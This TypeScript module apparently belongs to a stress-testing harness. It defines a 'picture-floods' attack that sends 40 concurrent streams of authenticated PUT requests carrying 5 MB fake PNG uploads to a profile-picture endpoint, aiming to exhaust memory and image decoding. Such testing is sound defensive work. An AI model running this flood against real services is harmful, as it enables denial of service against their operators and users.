import { hammer } from '../wire/hammer.ts'
import { requestBytes } from '../wire/request.ts'
import type { Attack } from './attack.ts'

const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')

/** Each is five megabytes in memory and a process that decodes it. */
export const pictureFloods: Attack = {
  name: 'picture-floods',
  about: 'pictures of 5 MB that begin well and are none',
  doors: ['http'],
  roles: ['account'],
  play(play) {
    const body = Buffer.concat([signature, Buffer.alloc(4_999_000, 'x')])
    const made = new Map<string, Buffer>()
    return hammer(play, {
      connections: 40,
      request: ({ account }) => {
        const cookie = account?.cookie ?? ''
        const bytes =
          made.get(cookie) ??
          requestBytes({
            method: 'PUT',
            path: '/api/user/setting/picture',
            headers: { 'content-type': 'image/png', cookie, 'sec-fetch-site': 'same-origin' },
            body,
          })
        made.set(cookie, bytes)
        return bytes
      },
    })
  },
}
